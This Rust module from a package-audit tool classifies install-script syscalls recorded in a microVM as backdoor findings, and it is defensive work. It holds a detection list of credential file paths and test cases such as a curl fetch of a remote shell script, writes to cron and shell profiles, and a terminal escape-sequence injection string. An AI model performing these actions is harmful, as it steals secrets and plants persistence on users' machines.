//! What a package's install scripts did: `mcpvm image build` runs them
//! in a microVM under a recording policy (every file opened or changed,
//! program run and address reached, as the guest agent's `effect`
//! events), and this judges which of those calls go beyond installing a
//! package into its own directory. Each rule broken is a finding of the
//! class `backdoor` (the published threats of installer spoofing and
//! backdoors: an install that reads credentials, plants files, runs
//! programs or fetches code the lock does not name), with the calls as
//! evidence (docs/security-audit.md, "What the install scripts did").
//!
//! The judgement is on paths as the guest saw them: the package is the
//! microVM's /workspace, its home /root. What the scripts change outside
//! /workspace never reaches the layer (the VM is thrown away); it is
//! reported because it shows what the scripts would do on a machine
//! that ran them.

use mcpvm_protocol::messages::Effect;

use crate::report::result::{Evidence, Finding};

/// The package's directory in the install microVM.
const PACKAGE: &str = "/workspace";

/// Where installing writes besides the package: scratch space, the
/// kernel's pseudo files and the package managers' caches.
const SCRATCH: &[&str] = &[
    PACKAGE,
    "/tmp",
    "/var/tmp",
    "/dev",
    "/proc",
    // The home of the user installs run as (the guest's `mcp`)...
    "/home/mcp/.npm",
    "/home/mcp/.cache",
    "/home/mcp/.node-gyp",
    // ...and root's, for records of installs made when they ran as root
    // (a store's records are judged again by every audit).
    "/root/.npm",
    "/root/.cache",
    "/root/.node-gyp",
];

/// Credentials where tools keep them: opening one at install is reading
/// a secret (the attempt counts: the VM has none to find).
const SECRETS: &[&str] = &[
    "/.ssh/",
    "/.aws/",
    "/.gnupg/",
    "/.config/gcloud/",
    "/.docker/config.json",
    "/.kube/config",
    "/.netrc",
    "/.git-credentials",
    "/.pypirc",
    "/.bash_history",
    "/etc/shadow",
    "/etc/secrets/",
];

/// What building a package runs besides the package's own programs:
/// shells, node and its package managers, compilers and the tools they
/// call. A program not named here (and not the package's) goes beyond.
const BUILD_TOOLS: &[&str] = &[
    "sh",
    "bash",
    "dash",
    "env",
    "node",
    "npm",
    "npx",
    "node-gyp",
    "node-gyp-build",
    "prebuild-install",
    "node-pre-gyp",
    "make",
    "gmake",
    "cmake",
    "ninja",
    "cc",
    "c++",
    "gcc",
    "g++",
    "clang",
    "clang++",
    "cc1",
    "cc1plus",
    "as",
    "ld",
    "ld.bfd",
    "ld.gold",
    "collect2",
    "ar",
    "ranlib",
    "strip",
    "objcopy",
    "pkg-config",
    "python",
    "python3",
    // pip asks it for the distribution it names in its user agent (its
    // vendored `distro`), building an sdist or making a venv.
    "lsb_release",
    "uname",
    "which",
    "mkdir",
    "rm",
    "cp",
    "mv",
    "ln",
    "chmod",
    "cat",
    "sed",
    "grep",
    "awk",
    "tr",
    "dirname",
    "basename",
    "test",
    "[",
    "true",
    "false",
    "echo",
    "printf",
    "tar",
    "gzip",
    "touch",
    "ls",
    "expr",
    "sort",
    "head",
    "tail",
    "cut",
    "getconf",
];

/// The rules, each with its severity and what it means for a person.
pub const RULES: &[(&str, &str, &str)] = &[
    (
        "install-reads-secrets",
        "high",
        "its install scripts opened credential files",
    ),
    (
        "install-writes-outside",
        "high",
        "its install scripts wrote outside the package's own directory",
    ),
    (
        "install-network",
        "medium",
        "its install scripts tried to reach the network (code or data the lock does not name)",
    ),
    (
        "install-runs-program",
        "medium",
        "its install scripts ran programs that building a package does not need",
    ),
];

/// Recorded calls kept as evidence per rule; the rest are counted.
pub const KEPT_PER_RULE: usize = 10;

fn under(path: &str, dir: &str) -> bool {
    path == dir || path.strip_prefix(dir).is_some_and(|r| r.starts_with('/'))
}

/// Whether `path` is a directory the scratch places are under ("/",
/// "/home/mcp"): making or opening it is the way to them.
fn ancestor_of_scratch(path: &str) -> bool {
    let p = path.trim_end_matches('/');
    p.is_empty() || SCRATCH.iter().any(|s| s.starts_with(&format!("{p}/")))
}

/// An open that writes (creates, truncates, or opens for writing).
fn writes(access: Option<&str>) -> bool {
    let a = access.unwrap_or("read");
    a.contains("write") || a.contains("create") || a.contains("truncate")
}

/// The program an exec ran, and whether it is the package's own.
fn program(e: &Effect) -> Option<&str> {
    e.paths.first().map(String::as_str)
}

/// Whether a program run at install goes beyond building: not the
/// package's own, not a build tool.
fn foreign_program(path: &str) -> bool {
    let base = path.rsplit('/').next().unwrap_or(path);
    // python3.11, gcc-12: a version suffix is the same tool.
    let stem = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.' || c == '-');
    !under(path, PACKAGE) && !BUILD_TOOLS.contains(&base) && !BUILD_TOOLS.contains(&stem)
}

/// The rule `e` breaks, if any.
pub fn judge(e: &Effect) -> Option<&'static str> {
    let first = e
        .resolved
        .as_deref()
        .or(e.paths.first().map(String::as_str));
    match e.call.as_str() {
        "execve" | "execveat" => program(e)
            .filter(|p| foreign_program(p))
            .map(|_| "install-runs-program"),
        "connect" | "sendto" => e
            .address
            .as_deref()
            .filter(|a| a.starts_with("inet"))
            .map(|_| "install-network"),
        "open" | "openat" | "openat2" => {
            let path = first?;
            if SECRETS
                .iter()
                .any(|s| path.contains(s) || path.ends_with(s.trim_end_matches('/')))
            {
                return Some("install-reads-secrets");
            }
            (writes(e.access.as_deref()) && outside(path)).then_some("install-writes-outside")
        }
        "bind" | "listen" | "ptrace" | "mount" => None,
        // A symlink's second path is its target's text, not a file.
        "symlink" | "symlinkat" => e
            .paths
            .first()
            .filter(|p| outside(p))
            .map(|_| "install-writes-outside"),
        _ => {
            let touched = first
                .into_iter()
                .chain(e.paths.iter().skip(1).map(String::as_str));
            touched
                .into_iter()
                .any(outside)
                .then_some("install-writes-outside")
        }
    }
}

fn outside(path: &str) -> bool {
    !SCRATCH.iter().any(|d| under(path, d)) && !ancestor_of_scratch(path)
}

/// One line naming what a call did: the program and its arguments, the
/// address, or the path.
pub fn what(e: &Effect) -> String {
    match e.call.as_str() {
        "execve" | "execveat" if !e.argv.is_empty() => e.argv.join(" "),
        _ => match (&e.address, e.paths.first()) {
            (Some(a), _) => a.clone(),
            (None, Some(p)) => p.clone(),
            (None, None) => e.call.clone(),
        },
    }
}

/// Characters of a path or command line a finding's text quotes.
const MAX_SHOWN: usize = 200;

/// A package's words in a finding's text (printed to a terminal by
/// `mcpvm probe`): bounded, every hidden or control character shown as
/// `\u{…}`. The evidence keeps the call whole, as JSON.
fn shown(text: &str) -> String {
    let cut: String = text.chars().take(MAX_SHOWN).collect();
    let more = if cut.len() < text.len() { "…" } else { "" };
    crate::judge::definitions::escape(&cut) + more
}

/// The findings of a layer's recorded install: one per rule broken,
/// with how many calls broke it and the first kept as evidence.
/// `beyond` holds each call with its rule; `omitted` is how many more
/// went unkept.
pub fn findings(beyond: &[(String, Effect)], omitted: u64) -> Vec<Finding> {
    RULES
        .iter()
        .filter_map(|(rule, severity, meaning)| {
            let calls: Vec<&Effect> = beyond
                .iter()
                .filter(|(r, _)| r == rule)
                .map(|(_, e)| e)
                .collect();
            calls.first()?;
            let mut whats: Vec<String> = Vec::new();
            for e in &calls {
                let w = format!("{} by {}", shown(&what(e)), shown(&e.exe));
                if !whats.contains(&w) {
                    whats.push(w);
                }
            }
            let shown: Vec<&str> = whats.iter().take(3).map(String::as_str).collect();
            let more = match (whats.len().saturating_sub(3), omitted) {
                (0, 0) => String::new(),
                (n, 0) => format!(" and {n} more"),
                (n, _) => format!(" and {n} more (and calls past what was kept)"),
            };
            let mut f = Finding::declared(
                "backdoor",
                rule,
                severity,
                "install".into(),
                format!("{meaning}: {}{more}", shown.join("; ")),
                String::new(),
            );
            f.attempts = calls.len().min(u32::MAX as usize) as u32;
            f.evidence = calls
                .iter()
                .map(|e| Evidence::Excerpt(serde_json::to_string(e).unwrap_or_default()))
                .collect();
            Some(f)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn effect(call: &str, exe: &str, extra: serde_json::Value) -> Effect {
        let mut v = serde_json::json!({"uptime_ms": 1, "pid": 7, "exe": exe, "call": call,
            "during": {"phase": "start_up"}});
        for (k, x) in extra.as_object().unwrap() {
            v[k] = x.clone();
        }
        serde_json::from_value(v).unwrap()
    }

    #[test]
    fn installing_into_the_package_and_the_caches_is_not_beyond() {
        use serde_json::json;
        let node = "/opt/node/bin/node";
        let fine = [
            effect(
                "openat",
                node,
                json!({"paths": ["/workspace/node_modules/x/build/a.node"], "access": "write+create+truncate"}),
            ),
            effect(
                "openat",
                node,
                json!({"paths": ["/root/.npm/_logs/2026-debug-0.log"], "access": "write+create"}),
            ),
            effect(
                "openat",
                node,
                json!({"paths": ["/tmp/npm-123/x"], "access": "write+create"}),
            ),
            effect(
                "openat",
                node,
                json!({"paths": ["/dev/null"], "access": "write"}),
            ),
            effect(
                "openat",
                node,
                json!({"paths": ["/etc/passwd"], "access": "read"}),
            ),
            effect("mkdir", node, json!({"paths": ["/root/.npm"]})),
            effect("mkdir", node, json!({"paths": ["/root"]})),
            // Installs run as the guest's user mcp: its npm cache.
            effect(
                "openat",
                node,
                json!({"paths": ["/home/mcp/.npm/_logs/2026-debug-0.log"], "access": "write+create"}),
            ),
            effect("mkdir", node, json!({"paths": ["/home/mcp"]})),
            effect(
                "rename",
                node,
                json!({"paths": ["/workspace/a", "/workspace/b"]}),
            ),
            effect(
                "execve",
                node,
                json!({"paths": ["/bin/sh"], "argv": ["sh", "-c", "node install.js"]}),
            ),
            effect(
                "execve",
                "/bin/sh",
                json!({"paths": ["/opt/node/bin/node"], "argv": ["node", "install.js"]}),
            ),
            effect(
                "execve",
                node,
                json!({"paths": ["/workspace/node_modules/esbuild/bin/esbuild"], "argv": ["esbuild", "--version"]}),
            ),
            effect(
                "execve",
                node,
                json!({"paths": ["/usr/bin/python3.11"], "argv": ["python3.11"]}),
            ),
            effect("connect", node, json!({"address": "unix /run/x.sock"})),
        ];
        for e in &fine {
            assert_eq!(judge(e), None, "{e:?}");
        }
    }

    #[test]
    fn what_goes_beyond_installing_breaks_its_rule() {
        use serde_json::json;
        let node = "/opt/node/bin/node";
        let cases = [
            (
                effect(
                    "openat",
                    node,
                    json!({"paths": ["/root/.ssh/id_ed25519"], "access": "read"}),
                ),
                "install-reads-secrets",
            ),
            (
                effect(
                    "openat",
                    node,
                    json!({"paths": ["/root/.aws/credentials"], "access": "read"}),
                ),
                "install-reads-secrets",
            ),
            (
                effect(
                    "openat",
                    node,
                    json!({"paths": ["/root/.bashrc"], "access": "write+create"}),
                ),
                "install-writes-outside",
            ),
            (
                effect(
                    "openat",
                    node,
                    json!({"paths": ["/workspace/link"], "resolved": "/etc/cron.d/x", "access": "write"}),
                ),
                "install-writes-outside",
            ),
            (
                effect(
                    "rename",
                    node,
                    json!({"paths": ["/workspace/a", "/usr/local/bin/a"]}),
                ),
                "install-writes-outside",
            ),
            (
                effect(
                    "symlinkat",
                    node,
                    json!({"paths": ["/root/.profile", "/workspace/x"]}),
                ),
                "install-writes-outside",
            ),
            (
                effect("chmod", node, json!({"paths": ["/usr/bin/node"]})),
                "install-writes-outside",
            ),
            (
                effect("connect", node, json!({"address": "inet 104.16.0.1:443"})),
                "install-network",
            ),
            (
                effect("sendto", node, json!({"address": "inet6 [::1]:53"})),
                "install-network",
            ),
            (
                effect(
                    "execve",
                    "/bin/sh",
                    json!({"paths": ["/usr/bin/curl"], "argv": ["curl", "-s", "http://x/y.sh"]}),
                ),
                "install-runs-program",
            ),
        ];
        for (e, rule) in &cases {
            assert_eq!(judge(e), Some(*rule), "{e:?}");
        }
    }

    #[test]
    fn one_finding_per_rule_with_every_call_as_evidence() {
        use serde_json::json;
        let node = "/opt/node/bin/node";
        let beyond: Vec<(String, Effect)> = [
            effect("connect", node, json!({"address": "inet 127.0.0.1:9"})),
            effect("connect", node, json!({"address": "inet 127.0.0.1:9"})),
            effect(
                "openat",
                node,
                json!({"paths": ["/root/.ssh/id_rsa"], "access": "read"}),
            ),
        ]
        .into_iter()
        .map(|e| (judge(&e).unwrap().to_string(), e))
        .collect();
        let found = findings(&beyond, 0);
        let rules: Vec<(&str, &str, u32)> = found
            .iter()
            .map(|f| (f.rule.as_str(), f.severity.as_str(), f.attempts))
            .collect();
        assert_eq!(
            rules,
            [
                ("install-reads-secrets", "high", 1),
                ("install-network", "medium", 2)
            ]
        );
        let net = &found[1];
        assert_eq!(
            (net.class.as_str(), net.step.as_str()),
            ("backdoor", "install")
        );
        assert_eq!(
            net.why,
            "its install scripts tried to reach the network (code or data the lock does not name): inet 127.0.0.1:9 by /opt/node/bin/node"
        );
        assert_eq!(net.evidence.len(), 2);
    }

    #[test]
    fn what_a_finding_quotes_is_bounded_and_printable() {
        use serde_json::json;
        let long = "x".repeat(5000);
        let e = effect(
            "execve",
            "/bin/sh",
            json!({"paths": ["/usr/bin/curl"], "argv": ["curl", "\u{1b}]0;owned\u{7}", long]}),
        );
        let found = findings(&[(judge(&e).unwrap().to_string(), e)], 0);
        let why = &found[0].why;
        assert!(!why.chars().any(|c| c.is_control()), "{why:?}");
        assert!(why.contains("\\u{001B}]0;owned\\u{0007}"), "{why}");
        assert!(why.len() < 600 && why.contains('…'), "{}", why.len());
    }
}
